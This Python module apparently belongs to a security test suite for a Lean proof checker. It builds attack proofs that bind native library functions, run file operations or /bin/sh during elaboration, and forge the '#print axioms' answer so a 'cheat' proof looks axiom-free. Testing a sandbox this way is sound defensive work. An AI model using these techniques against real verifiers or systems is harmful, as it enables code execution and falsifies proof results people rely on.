"""How attacks run code while Lean elaborates.

The embedded core library has no tactic that runs code, so these declare what they need: a macro
of their own for a command of the trusted ending, which calls functions of the shared library by
their names. The scan refuses all of that; with the scan off the code really runs, and it is the
sandbox and the judge that have to hold. Where `past_scan` is "passes" they do not, which is the
gap that `docs/verification.md` names.
"""

from __future__ import annotations

from attack import CHEAT, Attack

_NATIVE = """
instance {a b c : Type} [Inhabited a] [Inhabited b] : Inhabited (EStateM.Result a b c) :=
  ⟨.error default default⟩
instance {a : Type} : Inhabited (Option a) := ⟨.none⟩
@[extern "native"] opaque Lean.Syntax.setArg : Lean.Syntax → Nat → Lean.Syntax → Lean.Syntax :=
  fun s _ _ => s
@[extern "native"] opaque Lean.Syntax.mkStrLit : String → Lean.SourceInfo → Lean.Syntax :=
  fun _ _ => .missing
@[extern "native"] opaque String.append : String → String → String
@[extern "native"] opaque IO.Process.exit : Nat → Nat → Nat
@[extern "native"] opaque IO.FS.readFile : String → Nat → EStateM.Result Nat Nat String
@[extern "native"] opaque IO.FS.writeFile : String → String → Nat → EStateM.Result Nat Nat Nat
@[extern "native"] opaque IO.FS.removeDirAll : String → Nat → EStateM.Result Nat Nat Nat
@[extern "native"] opaque IO.FS.createDirAll : String → Nat → EStateM.Result Nat Nat Nat
@[extern "native"] opaque IO.FS.removeFile : String → Nat → EStateM.Result Nat Nat Nat
@[extern "native"] opaque IO.FS.rename : String → String → Nat → EStateM.Result Nat Nat Nat
@[extern "native"] opaque IO.getEnv : String → Nat → Option String
@[extern "native"] opaque IO.sleep : Nat → Nat → Nat
@[extern "native"] opaque Task.spawn : Nat → (Unit → Nat) → Nat → Nat
@[extern "native"] opaque Array.replicate : Nat → Nat → Nat → Nat
structure Stream where
  flush : Nat → Nat
  read : Nat → Nat → Nat
  write : Nat → Nat → Nat
  getLine : Nat → Nat
  putStr : String → Nat → Nat
  isTty : Nat → Nat
instance : Inhabited Stream :=
  ⟨⟨fun _ => 0, fun _ _ => 0, fun _ _ => 0, fun _ => 0, fun _ _ => 0, fun _ => 0⟩⟩
@[extern "native"] opaque IO.getStdout : Nat → Stream
"""
"""Functions of the shared library, under types with the same layout in memory."""

_SPAWN = """
inductive Spawn.Stream where | piped | inherit | null
structure Spawn.Streams where
  stdin : Spawn.Stream
  stdout : Spawn.Stream
  stderr : Spawn.Stream
structure Spawn where
  streams : Spawn.Streams
  program : String
  arguments : Nat
  folder : Option String
  environment : Nat
  inherited : Bool
  apart : Bool
@[extern "native"] opaque IO.Process.run :
  Spawn → Option String → Nat → EStateM.Result Nat Nat String
"""
"""A function that starts a program; arrays, which it takes, are numbers to this side."""

AXIOMS_ANSWER = "'no' does not depend on any axioms"
FORGE = (
    "match s with\n"
    "  | .node i _ a => .ok (Lean.Syntax.setArg (.node i `Lean.Parser.Command.print a) 1\n"
    f'      (Lean.Syntax.mkStrLit "{AXIOMS_ANSWER}" .none)) st\n'
    "  | s => .ok s st"
)


def run(body: str, on: str = "printAxioms", more: str = "") -> str:
    """A proof from `cheat`, and `body` run when the ending reaches the command `on`."""
    return (
        f"exact cheat\n{_NATIVE}{more}"
        f"def attack : Lean.Macro := fun s _ st => {body}\n"
        f"attribute [macro Lean.Parser.Command.{on}] attack"
    )


def io(call: str) -> str:
    """Call, and say in an error how it went."""
    return (
        f"match {call} 0 with\n"
        '  | .ok _ _ => .error (.error s "it was done") st\n'
        '  | .error _ _ => .error (.error s "refused") st'
    )


def shell(script: str) -> str:
    """A proof that starts a shell, and says in an error what the script printed."""
    none = "Array.replicate 0 0 0"
    return run(
        f'match IO.Process.run ⟨⟨.null, .piped, .null⟩, "/bin/sh", {none}, .none, {none}, true,\n'
        f'    false⟩ (.some "{script}") 0 with\n'
        "  | .ok t _ => .error (.error s t) st\n"
        '  | .error _ _ => .error (.error s "refused") st',
        more=_SPAWN,
    )


def number(call: str) -> str:
    """Call a function whose result is a small number."""
    return (
        f'match {call} with\n  | .zero => .error (.error s "zero") st\n'
        '  | .succ _ => .error (.error s "done") st'
    )


def then_forge(call: str) -> str:
    """Call, then give the clean answer."""
    return f"match {call} with\n  | .zero => ({FORGE})\n  | .succ _ => ({FORGE})"


def if_done(call: str) -> str:
    """The same, which the compiler cannot spare the call for: the answer depends on it."""
    return f'match {call} with\n  | .zero => .error (.error s "no") st\n  | .succ _ => ({FORGE})'


def then_print(call: str) -> str:
    """Call, then make the command one that prints something else."""
    body = "(" + FORGE.replace(AXIOMS_ANSWER, "something else") + ")"
    return f'match {call} with\n  | .zero => .error (.error s "no") st\n  | .succ _ => {body}'


def answer_line(line: int) -> str:
    return (
        f'\\x7b\\"severity\\":\\"information\\",\\"pos\\":\\x7b\\"line\\":{line},\\"column\\":0\\x7d,'
        f'\\"data\\":\\"{AXIOMS_ANSWER}\\"\\x7d\\n'
    )


def attack(name: str, trick: str, proof: str, **more: object) -> Attack:
    more = {"header": CHEAT, "by": "command", **more}
    return Attack(name, trick, proof, **more)  # type: ignore[arg-type]
